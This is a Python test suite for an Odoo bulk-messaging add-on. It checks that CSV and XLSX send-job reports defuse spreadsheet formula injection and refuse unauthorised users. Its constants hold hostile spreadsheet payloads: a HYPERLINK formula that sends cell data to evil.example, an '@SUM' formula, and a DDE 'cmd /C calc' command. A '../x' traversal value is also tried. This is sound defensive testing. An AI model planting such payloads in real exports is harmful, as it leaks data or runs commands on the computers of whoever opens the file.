"""The outcome report of a send job: one row per message, CSV and XLSX, spreadsheet-safe."""

import csv
import io
import zipfile
from datetime import datetime
from unittest.mock import patch

import pytz

from odoo.http import content_disposition
from odoo.tests import HttpCase, new_test_user, tagged
from odoo.tools import mute_logger

from ..models import outbound_job_report
from .common import SendingCase

SEND_JOB_LOGGER = "odoo.addons.outbound_bulk_messaging.models.outbound_send_job"
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
HOSTILE_REFERENCE = "@SUM(1+1)"
HOSTILE_REPLY = "=cmd|' /C calc'!A0"
PASSWORD = "report-pass-1"
TZ = "Europe/Brussels"
HEADER = [
    "Message ID",
    "Account Reference",
    "Account Name",
    "Channel",
    "Address",
    "State",
    "Failure Reason",
    "Outcome Unknown",
    f"Sent At ({TZ})",
    "Delivery Status",
    "Delivery Error",
    "Delivery Detail",
    f"Delivered At ({TZ})",
    "Reply Text",
    f"Replied At ({TZ})",
]


@tagged("post_install", "-at_install")
class TestOutcomeReport(HttpCase, SendingCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.accounts = cls._create_accounts(cls.list_active, 4, email="report{}@example.com")
        cls.accounts[0].name = HOSTILE_NAME
        cls.accounts[1].reference = HOSTILE_REFERENCE
        # No address: its message is skipped when the job is created.
        cls.no_address = cls._create_accounts(cls.list_active, 1, start=50)
        cls.reader = new_test_user(
            cls.env,
            "ob_report_reader",
            groups="outbound_bulk_messaging.group_outbound_user",
            password=PASSWORD,
            tz=TZ,
        )
        cls.company_b = cls.env["res.company"].create({"name": "Report Company B"})
        cls.reader_b = new_test_user(
            cls.env,
            "ob_report_reader_b",
            groups="outbound_bulk_messaging.group_outbound_user",
            password=PASSWORD,
            company_id=cls.company_b.id,
        )
        cls.internal = new_test_user(cls.env, "ob_report_internal", password=PASSWORD)

    def setUp(self):
        super().setUp()
        with self.smtp_sink(refuse={"report2@example.com"}):
            self.job = self._send("email")
            with mute_logger(SEND_JOB_LOGGER):  # the failed batch is logged as a warning
                self._dispatch()
        self.assertEqual(self._states(self.job), {"sent": 3, "failed": 1, "skipped": 1})
        self.sent = self.job.outbound_message_ids.filtered(lambda m: m.state == "sent")
        # What recipients send back is as hostile as what is imported.
        self.sent[:1].write({"reply_text": HOSTILE_REPLY, "replied_at": datetime(2026, 7, 1, 8)})
        self.messages = self.job.outbound_message_ids.sorted(lambda m: (m.state, m.id))

    def _download(self, file_format, login="ob_report_reader", job=None):
        self.authenticate(login, PASSWORD)
        # Two messages per query: the report is read over several chunks.
        with patch.object(outbound_job_report, "REPORT_CHUNK", 2):
            return self.url_open(f"/outbound/job/{(job or self.job).id}/report.{file_format}")

    def _local(self, value):
        """A UTC datetime of the database as the reader's wall-clock time, to the second."""
        local = pytz.utc.localize(value).astimezone(pytz.timezone(TZ)).replace(tzinfo=None)
        return local.replace(microsecond=0)

    def _expected_rows(self):
        rows = []
        for message in self.messages:
            account = message.account_id
            rows.append(
                {
                    "Message ID": message.id,
                    "Account Reference": message.account_reference,
                    "Account Name": account.name,
                    "Address": message.address or None,
                    "State": dict(message._fields["state"].selection)[message.state],
                    "Failure Reason": message.failure_reason or None,
                    f"Sent At ({TZ})": self._local(message.sent_at) if message.sent_at else None,
                    "Reply Text": message.reply_text or None,
                }
            )
        return rows

    # ---- CSV

    def test_csv_has_one_neutralised_row_per_message(self):
        response = self._download("csv")
        self.assertEqual(response.status_code, 200)
        self.assertEqual(response.headers["Content-Type"], "text/csv; charset=utf-8")
        filename = self.job.name.replace("/", "-") + ".csv"
        self.assertEqual(response.headers["Content-Disposition"], content_disposition(filename))
        self.assertTrue(response.content.startswith(b"\xef\xbb\xbf"))
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
        self.assertEqual(rows[0], HEADER)
        self.assertEqual(len(rows), 1 + 5)
        records = [dict(zip(HEADER, row, strict=True)) for row in rows[1:]]
        for record, expected in zip(records, self._expected_rows(), strict=True):
            for column, value in expected.items():
                if isinstance(value, datetime):
                    value = value.strftime("%Y-%m-%d %H:%M:%S")
                value = "" if value in (None, False) else str(value)
                if value[:1] in ("=", "+", "-", "@"):
                    value = "'" + value
                self.assertEqual(record[column], value, column)
            self.assertEqual(record["Channel"], "Email")
        by_state = {record["State"]: record for record in records}
        self.assertIn("refused recipient report2@example.com", by_state["Failed"]["Failure Reason"])
        self.assertTrue(by_state["Skipped"]["Failure Reason"])
        names = [record["Account Name"] for record in records]
        self.assertIn("'" + HOSTILE_NAME, names)
        self.assertIn("'" + HOSTILE_REFERENCE, [r["Account Reference"] for r in records])
        self.assertIn("'" + HOSTILE_REPLY, [record["Reply Text"] for record in records])
        # Nothing anywhere starts a formula.
        for row in rows[1:]:
            for cell in row:
                self.assertNotIn(cell.lstrip()[:1], ("=", "+", "-", "@"), row)

    # ---- XLSX

    def test_xlsx_has_one_row_per_message_and_no_formula(self):
        response = self._download("xlsx")
        self.assertEqual(response.status_code, 200)
        filename = self.job.name.replace("/", "-") + ".xlsx"
        self.assertEqual(response.headers["Content-Disposition"], content_disposition(filename))
        self.assertEqual(int(response.headers["Content-Length"]), len(response.content))
        with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
            self.assertNotIn("<f>", archive.read("xl/worksheets/sheet1.xml").decode())
        rows = self._xlsx_rows(response.content)
        self.assertEqual(rows[0], HEADER)
        records = [dict(zip(HEADER, row, strict=True)) for row in rows[1:]]
        for record, expected in zip(records, self._expected_rows(), strict=True):
            for column, value in expected.items():
                self.assertEqual(record[column], value, column)
        # Hostile texts are kept exactly, as text cells that a spreadsheet never evaluates.
        self.assertIn(HOSTILE_NAME, [record["Account Name"] for record in records])
        self.assertIn(HOSTILE_REPLY, [record["Reply Text"] for record in records])

    def _xlsx_rows(self, content):
        try:
            import openpyxl  # Odoo's requirement; imported where it is needed
        except ImportError:
            self.skipTest("openpyxl is not installed")
        workbook = openpyxl.load_workbook(io.BytesIO(content))
        sheet = workbook["Messages"]
        for row in sheet.iter_rows(min_row=2):
            for cell in row:
                self.assertIn(cell.data_type, ("s", "n", "d"), cell.coordinate)
                if isinstance(cell.value, str):
                    self.assertEqual(cell.data_type, "s", cell.coordinate)
        return [list(row) for row in sheet.values]

    # ---- ACCESS

    def test_another_companys_user_is_refused(self):
        for file_format in ("csv", "xlsx"):
            with self.subTest(file_format=file_format):
                response = self._download(file_format, login="ob_report_reader_b")
                self.assertEqual(response.status_code, 403)
                self.assertNotIn(HOSTILE_NAME.encode(), response.content)

    def test_internal_user_without_outbound_rights_is_refused(self):
        self.assertEqual(self._download("csv", login="ob_report_internal").status_code, 403)

    def test_unknown_job_is_not_found(self):
        missing = self.env["outbound.send.job"].browse(self.job.id + 1000)
        self.assertEqual(self._download("csv", job=missing).status_code, 404)

    def test_anonymous_visitor_is_sent_to_the_login(self):
        self.authenticate(None, None)
        response = self.url_open(f"/outbound/job/{self.job.id}/report.csv", allow_redirects=False)
        self.assertIn(response.status_code, (302, 303))
        self.assertIn("/web/login", response.headers["Location"])

    def test_button_downloads_the_chosen_format(self):
        job = self.job.with_user(self.reader)
        action = job.with_context(report_format="xlsx").action_download_report()
        self.assertEqual(action["url"], f"/outbound/job/{self.job.id}/report.xlsx")
        self.assertEqual(action["target"], "download")
        action = job.with_context(report_format="../x").action_download_report()
        self.assertEqual(action["url"], f"/outbound/job/{self.job.id}/report.csv")
